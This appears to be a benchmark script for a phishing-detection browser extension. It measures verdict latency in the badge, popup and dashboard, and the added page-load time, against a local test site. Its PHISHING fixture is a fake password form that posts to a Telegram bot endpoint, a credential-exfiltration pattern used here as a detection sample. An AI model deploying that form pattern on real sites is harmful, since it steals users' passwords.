/**
 * The browser extension in Chromium: from the end of a navigation to the verdict in the badge, in the popup and in the
 * dashboard's list of pages, which are open in other tabs; and the load of the pages compared with the same browser without
 * the extension, in turns. Server, sites and browsers run on this machine.
 */
import { type ChildProcess, execFileSync, fork } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { BrowserContext, Page } from 'playwright-core';
import { chromiumPath } from '../test/support/browser.ts';
import {
  type Extension,
  launchBrowser,
  originOfFolder,
  withBuiltExtension,
  withExtension,
} from '../test/support/extension.ts';
import { inFolder, median, ms, percentile, table, title } from './support/measure.ts';

/** The extension sends 20 pages of a tab in a minute. */
const OF_TAB = 15;
const TABS = 4;
const WARM_UP = 3;
const PLACES = ['badge', 'popup', 'dashboard'] as const;
const MAX_VERDICT_MS = 1000;
const MAX_SLOWER_MS = 20;

const PARAGRAPH = `<p>${'Notes on tomatoes and beans. '.repeat(20)}</p>`;
const SCRIPT = Array.from({ length: 200 }, (_, at) => `const part${at} = (a) => a * ${at};`).join('\n');
const HEAD = '<!doctype html><meta charset="utf-8"><link rel="stylesheet" href="/style.css">';
const BENIGN = `${HEAD}<title>Garden</title><script src="/app.js"></script><img src="/picture.svg" alt="">${PARAGRAPH.repeat(100)}<script>${SCRIPT}</script>`;
const PHISHING = `${BENIGN}<form method="post" action="https://api.telegram.org/bot1:x/sendMessage"><input name="pass" type="password"><button>Sign in</button></form>`;
const PARTS: Readonly<Record<string, [type: string, text: string]>> = {
  '/style.css': ['text/css', 'body { margin: 2em }'],
  '/app.js': ['text/javascript', SCRIPT],
  '/picture.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'],
};

interface Figures {
  verdict: Record<(typeof PLACES)[number], number[]>;
  load: Record<'with' | 'without', number[]>;
}

if (!chromiumPath) {
  console.error('Install Chromium first, such as Debian\'s package "chromium".');
  process.exit(2);
}
execFileSync('npm', ['run', '--silent', 'build:dashboard'], { cwd: join(import.meta.dirname, '..') });
const { verdict, load } = await inFolder((folder) =>
  withBuiltExtension(async (built) => {
    const site = createServer(({ url = '/' }, response) => {
      const [type, text] = PARTS[url] ?? ['text/html', url.startsWith('/phishing') ? PHISHING : BENIGN];
      response.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' }).end(text);
    }).listen(0, '127.0.0.1');
    await once(site, 'listening');
    const { port } = site.address() as { port: number };
    const server = fork(fileURLToPath(new URL('./support/page-flow-server.ts', import.meta.url)), {
      execArgv: ['--import', 'tsx'],
      env: {
        ...process.env,
        DATABASE_URL: `file:${folder}/bench.db`,
        SCANWIRE_TARGETS_ALLOW: '127.0.0.0/8',
        SCANWIRE_CORS_ORIGINS: originOfFolder(join(built, 'chromium')),
      },
    });
    const without = await launchBrowser(join(folder, 'profile'));
    try {
      const [{ url }] = (await once(server, 'message')) as [{ url: string }];
      return await withExtension(built, (extension) =>
        measure(extension, without, url, `http://127.0.0.1:${port}`),
      );
    } finally {
      await without.close();
      await end(server);
      site.closeAllConnections();
      site.close();
    }
  }),
);

title(`The extension, ${load.with.length} pages, one in two of them phishing`);
table([
  ['from the end of the navigation to the verdict', 'p50', 'p95', 'max'],
  ...PLACES.map((place) => [
    `in the ${place}`,
    ...[0.5, 0.95, 1].map((share) => ms(percentile(verdict[place], share))),
  ]),
]);
console.log(`  wanted: p95 at most ${MAX_VERDICT_MS} ms\n`);
const slower = median(load.with) - median(load.without);
table([
  ['from the start of the navigation to the load event', 'p50', 'p95'],
  ...(['with', 'without'] as const).map((which) => [
    `${which} the extension`,
    ...[0.5, 0.95].map((share) => ms(percentile(load[which], share))),
  ]),
]);
console.log(`  slower by ${ms(slower)} (p50); wanted: at most ${MAX_SLOWER_MS} ms`);
const isSlow = PLACES.some((place) => percentile(verdict[place], 0.95) > MAX_VERDICT_MS);
if (isSlow || slower > MAX_SLOWER_MS) process.exitCode = 1;

async function measure(
  extension: Extension,
  without: BrowserContext,
  server: string,
  site: string,
): Promise<Figures> {
  await extension.configure({ consent: true, server });
  const dashboard = await extension.context.newPage();
  await dashboard.goto(`${server}/pages`);
  await watchWorker(extension);
  const figures: Figures = {
    verdict: { badge: [], popup: [], dashboard: [] },
    load: { with: [], without: [] },
  };
  const plain = await without.newPage();
  for (let tab = 0; tab < TABS; tab++) {
    const page = await extension.context.newPage();
    let popup: Page | undefined;
    for (let round = -WARM_UP; round < OF_TAB; round++) {
      // An address of its own, by which the dashboard's row is found.
      const path = `/${round % 2 === 0 ? 'garden' : 'phishing'}/${tab}-${round + WARM_UP}`;
      const watched = popup && { dashboard: changeOf(dashboard, path), popup: changeOf(popup, '') };
      const isFirst = Math.floor(round / 2) % 2 === 0;
      const early = isFirst ? await loadOf(plain, site + path) : null;
      const taken = await loadOf(page, site + path);
      popup ??= await extension.open(`popup.html?tab=${await extension.tabOf(page)}`);
      const late = early ?? (await loadOf(plain, site + path));
      const seen = watched && (await Promise.all([watched.dashboard, watched.popup]));
      const { completed, badge } = await verdictOf(extension, site + path);
      if (round < 0 || !seen) continue;
      figures.load.with.push(taken);
      figures.load.without.push(late);
      figures.verdict.badge.push(badge - completed);
      figures.verdict.dashboard.push(seen[0] - completed);
      figures.verdict.popup.push(seen[1] - completed);
    }
    await popup?.close();
    await page.close();
  }
  return figures;
}

/** @returns milliseconds from the start of the navigation to the end of the load event */
async function loadOf(page: Page, url: string): Promise<number> {
  await page.goto(url, { waitUntil: 'load' });
  return await page.evaluate(
    `new Promise((resolve) => {
      const ask = () => {
        const [{ loadEventEnd }] = performance.getEntriesByType('navigation');
        loadEventEnd > 0 ? resolve(loadEventEnd) : setTimeout(ask, 5);
      };
      ask();
    })`,
  );
}

/** Has the worker note when navigations end, and when the browser has set a badge with a verdict. */
async function watchWorker({ worker }: Extension): Promise<void> {
  await (await worker()).evaluate(`{
    globalThis.ends = {};
    globalThis.badges = {};
    chrome.webNavigation.onCompleted.addListener(({ frameId, tabId, url }) => {
      if (frameId !== 0) return;
      ends[url] = Date.now();
      delete badges[tabId];
    });
    const set = chrome.action.setBadgeText.bind(chrome.action);
    chrome.action.setBadgeText = async (details) => {
      await set(details);
      if ('✓!✕?'.includes(details.text)) badges[details.tabId] ??= Date.now();
    };
  }`);
}

/** @returns times of the last navigation to an address and of its badge, in milliseconds since 1970 */
async function verdictOf({ worker }: Extension, url: string): Promise<{ completed: number; badge: number }> {
  return await (await worker()).evaluate(`new Promise((resolve) => {
    const ask = async () => {
      const [{ id }] = (await chrome.tabs.query({})).filter((tab) => tab.url === '${url}');
      if (badges[id]) resolve({ completed: ends['${url}'], badge: badges[id] });
      else setTimeout(ask, 20);
    };
    ask();
  })`);
}

/**
 * Waits in a page for a verdict: in the dashboard, the row with the text; in the popup, a title that differs from the
 * one before, since benign and phishing pages alternate.
 * @returns the time when the document has changed, in milliseconds since 1970; browsers draw tabs in the background only
 * once a second
 */
function changeOf(page: Page, text: string): Promise<number> {
  return page.evaluate(`new Promise((resolve) => {
    const titleOf = () => document.getElementById('title').textContent;
    const former = ${JSON.stringify(text)} || titleOf();
    const isThere = () => {
      if (${JSON.stringify(text)}) return document.body.innerText.includes(${JSON.stringify(text)});
      return titleOf() !== former && /^(No sign|Suspicious|Malicious|Could)/.test(titleOf());
    };
    const observer = new MutationObserver(() => {
      if (!isThere()) return;
      observer.disconnect();
      resolve(Date.now());
    });
    observer.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });
  })`);
}

async function end(server: ChildProcess): Promise<void> {
  server.kill();
  await once(server, 'exit');
}
